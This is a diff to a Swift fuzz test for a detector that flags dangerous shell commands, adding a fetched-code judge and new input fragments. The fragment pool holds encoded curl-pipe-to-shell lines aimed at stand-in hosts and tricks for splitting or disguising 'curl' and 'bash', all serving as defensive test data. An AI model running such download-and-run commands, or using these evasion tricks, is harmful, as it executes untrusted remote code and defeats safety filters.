@@ -22,7 +22,7 @@ struct CommandSignsTests {
         ("entersHost", EntersHost.judge), ("decodesAndRuns", DecodeAndRun.judge),
         ("looksEncoded", Payloads.looksEncoded), ("downloadsAndRuns", DownloadAndRun.judge),
         ("looksLikeMiner", MinerShape.judge), ("writesPersistence", PersistenceWrite.judge),
-        ("reverseShell", ReverseShell.judge),
+        ("reverseShell", ReverseShell.judge), ("runsFetchedCode", FetchedCode.judge),
     ]
 
     private static let pieces: [String] = [
@@ -37,6 +37,7 @@ struct CommandSignsTests {
         "--config=/srv/app.yaml",
         "IyEvYmluL3NoCmN1cmwgLXMgaHR0cDovLzE5OC41MS4xMDAuNy94IHwgc2gKZWNobyBkb25lCg==", "-a",
         "6375726c20687474703a2f2f782e6578616d706c652f617c7368", "printf", "rev", "openssl enc -d", "cp x", "-pool",
+        "git clone https://x.example/r", "cd r", "./run.sh", "pip install", "X=cu;", "Y=rl", "$X$Y", "${X}rl", "b''ash",
     ]
 
     @Test("Every function about commands is put to the test")
@@ -54,7 +55,7 @@ struct CommandSignsTests {
             var text = ""
             for _ in 0...random(8) { text += Self.pieces[random(Self.pieces.count)] + (random(5) == 0 ? "" : " ") }
             text.withText { view in
-                for (name, judge) in Self.judges where judge(view) {
+                for (name, judge) in Self.judges where AssembledCommand.judge(view, judge) {
                     said[name, default: 0] += 1
                     #expect(CommandSigns.maySay(view), "\(name): \(String(view))")
                 }
